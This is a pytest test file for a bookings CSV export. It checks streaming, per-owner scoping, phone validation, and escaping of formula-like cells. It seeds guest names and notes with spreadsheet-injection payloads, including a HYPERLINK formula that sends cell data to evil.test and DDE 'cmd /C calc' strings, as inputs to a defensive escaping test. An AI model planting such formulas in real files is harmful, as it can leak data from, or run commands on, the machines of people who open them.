"""The CSV export holds every booking (not one page of the list) and no cell a spreadsheet
would run as a formula: guests choose their own WhatsApp names."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import insert
from sqlalchemy.orm import Session, sessionmaker

from admin_api.export import COLUMNS, safe_cell
from engine.bookings.enums import BookingStatus, Channel
from engine.bookings.models import Booking
from engine.guests.service import get_or_create_guest
from engine.tenants.models import Venue
from tests.admin_api.conftest import World

API = "/api/v1"
COUNT = 1_879
#: Guest names as a guest could set them, each a spreadsheet formula or a control start.
NAMES = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "Asha",
]


def _many_bookings(sessions: sessionmaker[Session], world: World) -> None:
    """COUNT restaurant bookings in one bulk insert, by guests with hostile names."""
    now = datetime.now(UTC)
    with sessions.begin() as session:
        venue = session.get(Venue, world.ids["restaurant_id"])
        assert venue is not None
        guests = [
            get_or_create_guest(
                session, business_id=venue.business_id, phone=f"+91987000{n:04d}", name=name
            ).id
            for n, name in enumerate(NAMES)
        ]
        rows = [
            {
                "reference": f"BK-X{n:05d}",
                "venue_id": venue.id,
                "guest_id": guests[n % len(guests)],
                "status": BookingStatus.CONFIRMED,
                "channel": Channel.WHATSAPP,
                "party_size": 2,
                "starts_at": now + timedelta(days=5, minutes=15 * n),
                "resources": ["table:1"],
                "amount": 0,
                "amount_paid": 0,
                "currency": venue.currency,
                "notes": "=cmd|' /C calc'!A0" if n % 2 else "",
                "created_at": now,
                "updated_at": now,
            }
            for n in range(COUNT)
        ]
        session.execute(insert(Booking), rows)


def test_csv_export_holds_every_booking_streamed_with_every_name_escaped(
    client: TestClient, world: World, sessions: sessionmaker[Session]
) -> None:
    _many_bookings(sessions, world)
    answer = client.get(
        f"{API}/bookings/export.csv",
        params={"venue_id": world.ids["restaurant_id"]},
        headers=world.headers["owner"],
    )
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert "content-length" not in answer.headers  # streamed, not built whole first
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert len(rows) == COUNT
    assert len({row["reference"] for row in rows}) == COUNT
    names = {row["guest_name"] for row in rows}
    assert names == {"'" + name for name in NAMES[:-1]} | {"Asha"}
    assert {row["notes"] for row in rows} == {"", "'=cmd|' /C calc'!A0"}
    assert all(row["guest_phone"].startswith("+91987") for row in rows)  # numbers stay numbers


def test_csv_export_holds_only_the_callers_bookings(
    client: TestClient, world: World, sessions: sessionmaker[Session]
) -> None:
    _many_bookings(sessions, world)
    answer = client.get(f"{API}/bookings/export.csv", headers=world.headers["other"])
    assert answer.status_code == 200 and answer.text.splitlines() == [",".join(COLUMNS)]


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\tA", "'\tA"),
        ("\rA", "'\rA"),
        (" @A1", "' @A1"),
        ("＠A1", "'＠A1"),
        ("+919800000001", "+919800000001"),
        ("-7000.00", "-7000.00"),
        ("Asha = guest", "Asha = guest"),
        ("", ""),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_shown_as_text(cell: str, shown: str) -> None:
    assert safe_cell(cell) == shown


@pytest.mark.parametrize("phone", ["500", "not a phone"])
def test_an_export_for_an_impossible_phone_is_refused_before_it_starts(
    client: TestClient, world: World, phone: str
) -> None:
    answer = client.get(
        f"{API}/bookings/export.csv", params={"guest_phone": phone}, headers=world.headers["owner"]
    )
    assert answer.status_code == 422
    assert "phone number" in answer.json()["detail"]
